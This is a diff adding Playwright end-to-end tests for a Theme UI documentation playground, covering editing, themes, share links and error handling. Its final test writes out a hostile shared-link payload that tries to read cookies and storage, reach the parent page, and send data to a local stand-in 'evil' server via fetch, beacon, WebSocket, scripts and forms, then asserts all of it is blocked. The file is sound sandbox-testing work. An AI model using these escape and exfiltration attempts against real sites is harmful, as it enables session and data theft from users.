@@ -1,0 +1,277 @@
+import { expect, test, type Locator, type Page } from '@playwright/test';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { encodeWork } from '../../src/live-code/share-link';
+import { hydrated, watchConsole } from '../support/console';
+import { openFirstEditor, partsOf } from '../support/live-code';
+
+test.use({ permissions: ['clipboard-read', 'clipboard-write'] });
+
+const link = async (code: string, rest: object = {}) =>
+  `/playground#${await encodeWork({ code, theme: '', preset: 'site', mode: undefined, ...rest })}`;
+
+/** The frame's content, and the editors of code and theme. */
+function workbench(page: Page) {
+  const { frame, preview } = partsOf(page.getByRole('main'));
+  const field = (name: RegExp): Locator => page.getByRole('textbox', { name });
+  return { frame, preview, code: field(/^Code/), theme: field(/^Theme/) };
+}
+
+test('shows code, preview, theme and generated CSS', async ({ page }) => {
+  const assertSilent = watchConsole(page);
+  await page.goto('/playground');
+  const { frame, code, theme } = workbench(page);
+  await expect(frame.getByRole('heading', { name: 'Room on the ninth floor' })).toBeVisible();
+  await frame.getByRole('button', { name: 'Stay longer' }).click();
+  await expect(frame.getByText('3 nights, 420 dollars')).toBeVisible();
+  await code.fill('<Button sx={{ mt: [2, 4], ":hover": { bg: "accent" } }}>Only this</Button>');
+  await expect(frame.getByRole('button', { name: 'Only this' })).toBeVisible();
+
+  await page.getByRole('tab', { name: 'Theme' }).click();
+  await theme.fill('{ "colors": { "primary": "rgb(1, 2, 3)" } }');
+  await expect(frame.getByRole('button', { name: 'Only this' })).toHaveCSS(
+    'background-color',
+    'rgb(1, 2, 3)',
+  );
+  await theme.fill(
+    "import type { Theme } from 'theme-ui';\nexport const theme: Theme = { colors: { primary: 'rgb(4, 5, 6)' } };",
+  );
+  await expect(frame.getByRole('button', { name: 'Only this' })).toHaveCSS(
+    'background-color',
+    'rgb(4, 5, 6)',
+  );
+
+  await page.getByRole('tab', { name: 'Generated CSS' }).click();
+  const css = page
+    .getByLabel('Generated CSS')
+    .getByText(/<button>/)
+    .first();
+  await expect(css).toBeVisible();
+  const text = (await page.getByRole('tabpanel', { name: 'Generated CSS' }).textContent())!;
+  expect(text).toContain('--theme-ui-colors-primary: rgb(4, 5, 6);');
+  expect(text).toContain('background-color: var(--theme-ui-colors-primary);');
+  expect(text).toMatch(
+    /@media screen and \(min-width: 40em\) \{\s+\.css-[\w-]+ \{\s+margin-top: 32px;/,
+  );
+  expect(text).toMatch(/:hover \{\s+background-color: var\(--theme-ui-colors-accent\);/);
+  assertSilent();
+});
+
+test('an error of the theme is said, and the last good theme stays', async ({ page }) => {
+  await page.goto('/playground');
+  const { frame, theme } = workbench(page);
+  await page.getByRole('tab', { name: 'Theme' }).click();
+  await theme.fill('{ colors: { primary: "rgb(1, 2, 3)" } }');
+  const inFrame = frame.getByRole('button', { name: 'Stay longer' });
+  await expect(inFrame).toHaveCSS('background-color', 'rgb(1, 2, 3)');
+  await theme.fill('{\n  colors: {\n}');
+  await expect(page.getByRole('alert')).toContainText(/Line \d.*\(in the theme\)/);
+  await expect(inFrame).toHaveCSS('background-color', 'rgb(1, 2, 3)');
+});
+
+test('tabs are chosen by arrow keys', async ({ page }) => {
+  await page.goto('/playground');
+  const tabs = page.getByRole('tablist', { name: 'Source' });
+  await tabs.getByRole('tab', { name: 'Code' }).press('ArrowRight');
+  await expect(tabs.getByRole('tab', { name: 'Theme' })).toBeFocused();
+  await expect(page.getByRole('tabpanel', { name: 'Theme' })).toBeVisible();
+  await expect(workbench(page).code).toBeHidden();
+});
+
+test('has any preset, mode and width', async ({ page }) => {
+  await page.goto('/playground');
+  const { frame } = workbench(page);
+  await page.getByRole('combobox', { name: 'Theme' }).selectOption('polaris');
+  await page.getByRole('combobox', { name: 'Mode' }).selectOption('Dark');
+  await expect(frame.locator('html')).toHaveCSS('background-color', 'rgb(0, 6, 57)');
+  await page.getByRole('combobox', { name: 'Width' }).selectOption({ label: 'Phone · 360px' });
+  await expect.poll(() => frame.locator('html').evaluate(() => window.innerWidth)).toBe(360);
+});
+
+test('a link carries code, theme, preset and mode; its code waits for Run', async ({ page }) => {
+  await page.goto('/playground');
+  const { code, theme } = workbench(page);
+  await code.fill('<Button>Shared</Button>');
+  await page.getByRole('tab', { name: 'Theme' }).click();
+  await theme.fill('{ radii: { default: 20 } }');
+  await page.getByRole('combobox', { name: 'Theme' }).selectOption('future');
+  await page.getByRole('combobox', { name: 'Mode' }).selectOption('Dark');
+  await page.getByRole('button', { name: 'Copy link' }).click();
+  await expect(page.getByText('Copied')).toBeVisible();
+  const address = await page.evaluate(() => navigator.clipboard.readText());
+  await expect(page.getByText(`${address.length} characters`)).toBeVisible();
+
+  const other = await page.context().newPage();
+  await other.goto(address);
+  const shared = workbench(other);
+  await expect(shared.code).toHaveValue('<Button>Shared</Button>');
+  await expect(
+    other.getByText('This code came with a link. Read it, then press Run.'),
+  ).toBeVisible();
+  await expect(other.locator('iframe')).toHaveCount(0);
+  await other.getByRole('button', { name: 'Run' }).click();
+  await expect(shared.frame.getByRole('button', { name: 'Shared' })).toBeVisible();
+  await expect(other.getByRole('combobox', { name: 'Theme' })).toHaveValue('future');
+  await expect(other.getByRole('combobox', { name: 'Mode' })).toHaveValue('dark');
+});
+
+test('a damaged link says so, and the playground works', async ({ page }) => {
+  for (const address of ['/playground#work1.!!!', `${(await link('<b>Cut</b>')).slice(0, -8)}`]) {
+    await page.goto('about:blank');
+    await page.goto(address);
+    await expect(page.getByText(/This link is damaged/)).toBeVisible();
+    await expect(workbench(page).frame.getByRole('button', { name: 'Stay longer' })).toBeVisible();
+  }
+});
+
+test('a link in the same tab replaces what is shown, not what the reader wrote', async ({
+  page,
+}) => {
+  await page.goto('/playground');
+  const { code, frame } = workbench(page);
+  await code.fill('<b>My own</b>');
+  await expect(frame.getByText('My own')).toBeVisible();
+  const hash = (await link('<b>Theirs</b>')).split('#')[1]!;
+  await page.evaluate((value) => (window.location.hash = value), hash);
+  await expect(code).toHaveValue('<b>Theirs</b>');
+  await page.goto('/theming');
+  await page.goto('/playground');
+  await expect(code).toHaveValue('<b>My own</b>');
+});
+
+test('an example opens in the playground and runs at once; in another tab its address has it', async ({
+  page,
+}) => {
+  await page.goto('/components/button');
+  await hydrated(page);
+  const { editor, example } = await openFirstEditor(page);
+  await editor.fill('<Button>From the example</Button>');
+  const open = example.getByRole('link', { name: 'Open in playground' });
+  await open.focus();
+  await expect(open).toHaveAttribute('href', /^\/playground#work1\./);
+  await open.click();
+  await expect(page).toHaveURL('/playground');
+  const { code, frame } = workbench(page);
+  await expect(code).toHaveValue('<Button>From the example</Button>');
+  await expect(frame.getByRole('button', { name: 'From the example' })).toBeVisible();
+  await page.reload();
+  await expect(code).toHaveValue('<Button>From the example</Button>');
+  await page.getByRole('button', { name: 'Reset' }).click();
+  await expect(frame.getByRole('button', { name: 'Stay longer' })).toBeVisible();
+});
+
+test('says what it needs without scripts', async ({ browser }) => {
+  const context = await browser.newContext({ javaScriptEnabled: false });
+  const page = await context.newPage();
+  await page.goto('http://localhost:4173/playground');
+  await expect(page.getByText(/so it needs JavaScript/)).toBeVisible();
+  await context.close();
+});
+
+test('a hostile link gets nowhere', async ({ page, context }) => {
+  const reached: string[] = [];
+  const evil = createServer((request, response) => {
+    reached.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('evil');
+  });
+  await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
+  const port = (evil.address() as AddressInfo).port;
+  const there = `http://127.0.0.1:${port}`;
+  expect(await (await fetch(`${there}/alive`)).text()).toBe('evil');
+
+  await page.goto('/theming');
+  await page.evaluate(() => {
+    document.cookie = 'session=secret';
+    localStorage.setItem('secret', 'secret');
+  });
+  const popups: Page[] = [];
+  context.on('page', (popup) => popups.push(popup));
+
+  const code = `
+const attempts = {
+  cookie: () => document.cookie,
+  setCookie: () => (document.cookie = 'mine=1'),
+  localStorage: () => localStorage.getItem('secret'),
+  sessionStorage: () => sessionStorage.length + 1,
+  indexedDB: () => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('open'); open.onerror = no; }),
+  caches: () => caches.keys().then(() => 'caches'),
+  parentDocument: () => parent.document.title,
+  topAddress: () => top.location.href,
+  parentFunction: () => parent.eval('1'),
+  frameElement: () => frameElement.src,
+  topNavigation: () => { top.location = '${there}/top'; return undefined; },
+  openWindow: () => window.open('${there}/popup'),
+  openTop: () => window.open('${there}/open-top', '_top'),
+  fetchThere: () => fetch('${there}/fetch').then(() => 'fetched'),
+  fetchHere: () => fetch('/page-data/app-data.json').then((answer) => answer.text()),
+  beacon: () => { navigator.sendBeacon('${there}/beacon', 'x'); return undefined; },
+  xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes('loaded'); x.onerror = no; x.open('GET', '${there}/xhr'); x.send(); }),
+  picture: () => new Promise((yes, no) => { const i = new window.Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = '${there}/picture.png'; }),
+  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:${port}/socket'); s.onopen = () => yes('open'); s.onerror = no; }),
+  events: () => new Promise((yes, no) => { const s = new EventSource('${there}/events'); s.onopen = () => yes('open'); s.onerror = no; }),
+  peer: () => new RTCPeerConnection(),
+  worker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = no; }),
+  dataWorker: () => new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => yes('runs'); w.onerror = no; }),
+  sharedWorker: () => new Promise((yes, no) => { const w = new SharedWorker('data:text/javascript,onconnect=()=>0'); w.onerror = no; setTimeout(no, 300); }),
+  serviceWorker: () => navigator.serviceWorker.register('/sw.js'),
+  scriptThere: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = () => yes('loaded'); s.onerror = no; s.src = '${there}/script.js'; document.head.append(s); }),
+  inlineScript: () => { const s = document.createElement('script'); s.textContent = 'window.inlined = "ran"'; document.head.append(s); return window.inlined; },
+  style: () => new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => yes('loaded'); l.onerror = no; l.href = '${there}/style.css'; document.head.append(l); }),
+  styleImport: () => { const s = document.createElement('style'); s.textContent = '@import url(${there}/import.css); body { background: url(${there}/background.png) }'; document.head.append(s); return undefined; },
+  moduleThere: () => import('${there}/module.js').then(() => 'loaded'),
+  formTop: () => { const f = document.createElement('form'); f.action = '${there}/form-top'; f.target = '_top'; document.body.append(f); f.submit(); f.remove(); return undefined; },
+  frameThere: () => new Promise((yes) => { const i = document.createElement('iframe'); i.onload = () => { i.remove(); yes(undefined); }; i.src = '${there}/frame'; document.body.append(i); }),
+  blankFrame: () => { const i = document.createElement('iframe'); document.body.append(i); const found = i.contentWindow.RTCPeerConnection; i.remove(); return found; },
+  history: () => { history.go(-1); return 'went'; },
+  alert: () => { alert('evil'); return undefined; },
+};
+const results = Object.keys(attempts).map((name) =>
+  new Promise((done) => {
+    const settle = (value) => done(value === undefined || value === null || value === '' || value === false ? [] : [name + ': ' + String(value)]);
+    setTimeout(() => done([]), 1500);
+    try { Promise.resolve(attempts[name]()).then(settle, () => done([])); } catch { done([]); }
+  }),
+);
+function Report() {
+  const [found, setFound] = useState();
+  useEffect(() => { Promise.all(results).then((lists) => setFound(lists.flat())); }, []);
+  return <pre>{found ? 'tried ' + results.length + ', got: ' + JSON.stringify(found) : 'trying'}</pre>;
+}
+render(<Report />);`;
+  const address = await link(code);
+  await page.goto(address);
+  await page.getByRole('button', { name: 'Run' }).click();
+  const { frame } = workbench(page);
+  await expect(frame.getByText(/^tried/)).toHaveText('tried 35, got: []', { timeout: 10_000 });
+  expect(reached).toEqual(['GET /alive']);
+  expect(popups).toEqual([]);
+  await expect(page).toHaveURL(address);
+  expect(await page.evaluate(() => document.cookie)).toBe('session=secret');
+
+  // And with the reader's own click, which gives more rights to a page.
+  const clickCode = `
+<button onClick={() => { window.open('${there}/click-popup'); try { top.location = '${there}/click-top'; } catch {} }}>Free tea</button>`;
+  await page.goto('about:blank');
+  await page.goto(await link(clickCode));
+  await page.getByRole('button', { name: 'Run' }).click();
+  await frame.getByRole('button', { name: 'Free tea' }).click();
+
+  // The frame itself may not go there either, and code that tries is ended.
+  for (const leave of [
+    `location.href = '${there}/leave'`,
+    "location.href = '/theming'",
+    'location.reload()',
+    `const f = document.createElement('form'); f.action = '${there}/form'; document.body.append(f); f.submit()`,
+  ]) {
+    await page.goto('about:blank');
+    await page.goto(await link(`() => { ${leave}; return <p>Leaving</p>; }`));
+    await page.getByRole('button', { name: 'Run' }).click();
+    await expect(page.getByText('The code left its page and was stopped.')).toBeVisible();
+  }
+  expect(reached).toEqual(['GET /alive']);
+  expect(popups).toEqual([]);
+  await expect(page).toHaveTitle('Playground – Theme UI');
+  evil.closeAllConnections();
+  evil.close();
+});
